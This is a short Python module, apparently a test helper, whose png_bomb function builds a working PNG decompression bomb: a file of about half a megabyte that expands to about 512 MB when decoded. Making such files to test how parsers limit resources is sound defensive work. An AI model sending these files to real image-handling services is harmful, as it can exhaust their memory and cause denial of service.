"""Small files that unpack to much."""

from __future__ import annotations

import struct
import zlib

_CHANNELS = {0: 1, 2: 3, 6: 4}


def png_bomb(width: int, height: int, *, depth: int = 16, colour: int = 6) -> bytes:
    """Return a PNG of one colour: at 8000x8000 half a megabyte that unpacks to 512 MB."""
    row = bytes(1 + width * _CHANNELS[colour] * depth // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    parts = ((b"IHDR", head), (b"IDAT", data), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        for kind, body in parts
    )
